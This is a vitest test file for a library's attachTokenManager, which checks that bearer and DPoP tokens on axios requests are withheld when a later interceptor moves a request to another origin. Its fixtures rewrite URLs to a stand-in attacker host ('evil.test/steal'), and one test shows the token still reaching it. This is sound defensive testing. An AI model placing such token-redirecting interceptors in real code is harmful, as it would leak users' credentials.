import type { TokenManager } from '@tessera/core';
import { createDPoP } from '@tessera/dpop';
import axios, { type AxiosError, type AxiosInstance, type AxiosRequestTransformer } from 'axios';
import axios112 from 'axios-1-12';
import { afterEach, describe, expect, it } from 'vitest';
import { countingTokens } from '../../e2e-support/test-support/counting-tokens.js';
import { type FakeAnswer, type FakeCall, fakeApi } from '../test/fake-api.js';
import { attachTokenManager } from './attach-token-manager.js';

// axios runs request interceptors last-registered first: one registered before attachTokenManager
// runs after ours and can move the request after the token was put on.
const baseURL = 'https://api.example.com';
const managers: TokenManager[] = [];
afterEach(() => {
  for (const tokens of managers.splice(0)) tokens.dispose();
});

const versions = [
  ['axios (newest)', (adapter: never) => axios.create({ baseURL, adapter })],
  ['axios 1.12.0', (adapter: never) => axios112.create({ baseURL, adapter }) as unknown as AxiosInstance],
] as const;

/** Where each call went (the config the adapter got) and the credentials it carried. */
function sentOf(calls: readonly FakeCall[]) {
  return calls.map(({ config }) => {
    const where = new URL(String(config.url), config.baseURL ?? undefined).origin;
    const dpop = config.headers.get('DPoP');
    return [where, config.headers.get('Authorization') ?? null, typeof dpop === 'string' ? 'proof' : null];
  });
}

async function setup(
  create: (adapter: never) => AxiosInstance,
  respond: (call: FakeCall) => FakeAnswer,
  withDPoP = false,
) {
  const api = fakeApi(respond);
  const counted = await countingTokens(withDPoP ? { tokenType: 'DPoP', tokenTypes: ['DPoP'] } : {});
  managers.push(counted.tokens);
  const instance = create(api.adapter as never);
  // Registered first: runs after attachTokenManager's interceptor.
  instance.interceptors.request.use((config) => {
    if (config.url === '/moved') config.url = 'https://evil.test/steal';
    if (config.url === '/rebased') config.baseURL = 'https://evil.test';
    if (config.url === '/elsewhere-allowed') config.url = '/v2/orders';
    if (config.url === '/replaced') {
      // Replaces the transforms altogether (ours included), then moves the request.
      config.transformRequest = [(data) => `replaced:${JSON.stringify(data)}`];
      config.url = 'https://evil.test/steal';
    }
    if (config.url === '/unset') {
      config.transformRequest = undefined as never;
      config.baseURL = 'https://evil.test';
    }
    if (config.url === '/rebuilt') {
      // A new config object whose transforms are its own: our send-time check is not among them.
      return { ...config, url: 'https://evil.test/steal', transformRequest: [(data: unknown) => data] };
    }
    const url = config.url as unknown;
    if (url instanceof URL && url.pathname === '/in-place') url.hostname = 'evil.test';
    return config;
  });
  attachTokenManager(instance, counted.tokens, withDPoP ? { senderConstraint: createDPoP() } : {});
  return { ...counted, instance, calls: api.calls };
}

const fromEvil = ({ config }: FakeCall): FakeAnswer =>
  String(config.url).includes('evil') || config.baseURL === 'https://evil.test'
    ? { status: 401 }
    : { status: 200 };

describe.each(versions)('a user interceptor that runs after ours, with %s', (_name, create) => {
  it('never sends the token where it moved the request (url, baseURL); its 401 refreshes and replays nothing', async () => {
    const { instance, calls, fetchTokens } = await setup(create, fromEvil);
    const moved = await instance.get('/moved').catch((error: AxiosError) => error);
    const rebased = await instance.get('/rebased').catch((error: AxiosError) => error);
    expect([moved, rebased].map((error) => (error as AxiosError).response?.status)).toEqual([401, 401]);
    expect(sentOf(calls)).toEqual([
      ['https://evil.test', null, null],
      ['https://evil.test', null, null],
    ]);
    expect(fetchTokens).not.toHaveBeenCalled();
  });

  it('checks a request with its own transformRequest too, and a URL object changed in place', async () => {
    const { instance, calls, fetchTokens } = await setup(create, fromEvil);
    const own = await instance
      .post('/moved', { a: 1 }, { transformRequest: [(data) => JSON.stringify(data)] })
      .catch((error: AxiosError) => error);
    const inPlace = await instance
      .get(new URL('https://api.example.com/in-place') as never)
      .catch((error: AxiosError) => error);
    expect([own, inPlace].map((error) => (error as AxiosError).response?.status)).toEqual([401, 401]);
    expect(sentOf(calls)).toEqual([
      ['https://evil.test', null, null],
      ['https://evil.test', null, null],
    ]);
    expect(fetchTokens).not.toHaveBeenCalled();
  });

  it('never sends the token where it moved the request after replacing transformRequest (or unsetting it); yours still run', async () => {
    const { instance, calls, fetchTokens } = await setup(create, fromEvil);
    const replaced = await instance.post('/replaced', { a: 1 }).catch((error: AxiosError) => error);
    const unset = await instance.post('/unset', 'raw').catch((error: AxiosError) => error);
    expect([replaced, unset].map((error) => (error as AxiosError).response?.status)).toEqual([401, 401]);
    expect(sentOf(calls)).toEqual([
      ['https://evil.test', null, null],
      ['https://evil.test', null, null],
    ]);
    expect(calls.map(({ config }) => config.data)).toEqual(['replaced:{"a":1}', 'raw']);
    expect(fetchTokens).not.toHaveBeenCalled();
  });

  it('a new config object without our check still reaches evil.test with the token (outside what we see), but its 401 refreshes and replays nothing', async () => {
    const { instance, calls, fetchTokens } = await setup(create, fromEvil);
    const error = await instance.get('/rebuilt').catch((reason: AxiosError) => reason);
    expect((error as AxiosError).response?.status).toBe(401);
    // Where it went, and the header as it was sent.
    expect(calls.map((call) => [sentOf([call])[0]?.[0], call.authorization])).toEqual([
      ['https://evil.test', 'Bearer at-0'],
    ]);
    expect(fetchTokens).not.toHaveBeenCalled();
    expect(JSON.stringify(error)).not.toContain('at-0');
  });

  it('keeps the token when it moves the request within allowed origins', async () => {
    const { instance, calls } = await setup(create, () => ({ status: 200 }));
    await instance.get('/elsewhere-allowed');
    await instance.get('/elsewhere-allowed');
    expect(sentOf(calls)).toEqual([
      [baseURL, 'Bearer at-0', null],
      [baseURL, 'Bearer at-0', null],
    ]);
  });
});

describe('a user interceptor that runs after ours, with a senderConstraint (DPoP)', () => {
  it('sends neither the token nor the proof where it moved the request, nor on the hops it is redirected to', async () => {
    const { instance, calls, fetchTokens } = await setup(
      versions[0][1],
      ({ config }) =>
        String(config.url).includes('evil')
          ? { status: 302, headers: { location: 'https://api.example.com/orders' } }
          : { status: 200 },
      true,
    );
    expect((await instance.get('/moved')).status).toBe(200);
    expect(sentOf(calls)).toEqual([
      ['https://evil.test', null, null],
      [baseURL, null, null],
    ]);
    expect(fetchTokens).not.toHaveBeenCalled();
  });
});

describe('detach() and the send-time check', () => {
  it('checks a replay too: an interceptor that moves only the replay (replacing transformRequest) sends it no token', async () => {
    const api = fakeApi(() => ({ status: 401 }));
    const { tokens, fetchTokens } = await countingTokens();
    managers.push(tokens);
    const instance = axios.create({ baseURL, adapter: api.adapter });
    let sends = 0;
    instance.interceptors.request.use((config) => {
      sends += 1;
      if (sends === 2) {
        config.transformRequest = [(data) => data];
        config.url = 'https://evil.test/steal';
      }
      return config;
    });
    attachTokenManager(instance, tokens);
    await instance.get('/orders').catch(() => undefined);
    expect(sentOf(api.calls)).toEqual([
      [baseURL, 'Bearer at-0', null],
      ['https://evil.test', null, null],
    ]);
    expect(fetchTokens).toHaveBeenCalledTimes(1);
  });

  it('keeps the check of each of two attachments when a later interceptor replaces transformRequest', async () => {
    const api = fakeApi(fromEvil);
    const { tokens, fetchTokens } = await countingTokens();
    managers.push(tokens);
    const instance = axios.create({ baseURL, adapter: api.adapter });
    instance.interceptors.request.use((config) => {
      config.transformRequest = [(data) => data];
      config.url = 'https://evil.test/steal';
      return config;
    });
    attachTokenManager(instance, tokens);
    attachTokenManager(instance, tokens, { header: 'X-Api-Token', scheme: '' });
    await instance.get('/orders').catch(() => undefined);
    const { headers } = api.calls[0]?.config ?? {};
    expect([headers?.get('Authorization') ?? null, headers?.get('X-Api-Token') ?? null]).toEqual([
      null,
      null,
    ]);
    expect(fetchTokens).not.toHaveBeenCalled();
  });

  it('takes its check out of the instance’s transformRequest, keeping yours and another attachment’s', async () => {
    const api = fakeApi(fromEvil);
    const { tokens } = await countingTokens();
    managers.push(tokens);
    const instance = axios.create({ baseURL, adapter: api.adapter });
    const yours = (data: unknown) => data;
    instance.defaults.transformRequest = [
      ...(instance.defaults.transformRequest as AxiosRequestTransformer[]),
      yours,
    ];
    const before = [...(instance.defaults.transformRequest as unknown[])];
    instance.interceptors.request.use((config) => {
      if (config.url === '/moved') config.url = 'https://evil.test/steal';
      return config;
    });
    const detachFirst = attachTokenManager(instance, tokens);
    const detachSecond = attachTokenManager(instance, tokens, { header: 'X-Api-Token' });
    detachFirst();
    expect(instance.defaults.transformRequest).toHaveLength(before.length + 1);
    // The other attachment still checks where axios sends.
    await instance.get('/moved').catch(() => undefined);
    expect(api.calls[0]?.config.headers.get('X-Api-Token') ?? null).toBeNull();
    detachSecond();
    expect(instance.defaults.transformRequest).toEqual(before);
  });

  it.each(versions)(
    '%s: installs no send-time check when no interceptor was registered before it (none can run after ours)',
    async (_name, create) => {
      const api = fakeApi(fromEvil);
      const { tokens } = await countingTokens();
      managers.push(tokens);
      const instance = create(api.adapter as never);
      const before = [...(instance.defaults.transformRequest as unknown[])];
      attachTokenManager(instance, tokens);
      // Registered after attachTokenManager: runs before ours, so the origin is judged after it moved.
      instance.interceptors.request.use((config) => {
        if (config.url === '/moved') config.url = 'https://evil.test/steal';
        return config;
      });
      expect(instance.defaults.transformRequest).toEqual(before);
      await instance.get('/moved').catch(() => undefined);
      await instance.get('/orders');
      expect(sentOf(api.calls)).toEqual([
        ['https://evil.test', null, null],
        [baseURL, 'Bearer at-0', null],
      ]);
      expect(Object.getOwnPropertyDescriptor(api.calls[1]?.config, 'transformRequest')?.set).toBeUndefined();
    },
  );
});
